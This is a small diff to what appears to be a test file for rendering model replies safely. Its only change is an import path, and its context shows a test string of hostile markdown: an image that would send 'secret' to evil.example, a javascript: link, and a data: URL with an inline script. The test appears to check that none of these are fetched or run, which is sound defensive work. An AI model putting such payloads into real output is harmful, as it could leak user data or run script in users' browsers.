@@ -1,7 +1,7 @@
 /** A reply that tries everything: nothing of it is fetched, nothing runs. */
 
 import { expect, test } from "./harness/fixtures";
-import { say, think, turn, use } from "./harness/scripted-model";
+import { say, think, turn, use } from "./harness/scriptedModel";
 
 const HOSTILE = `
 ![pixel](https://evil.example/pixel.png?secret) and [click](javascript:alert(1)) and [data](data:text/html,<script>window.hacked=1</script>)
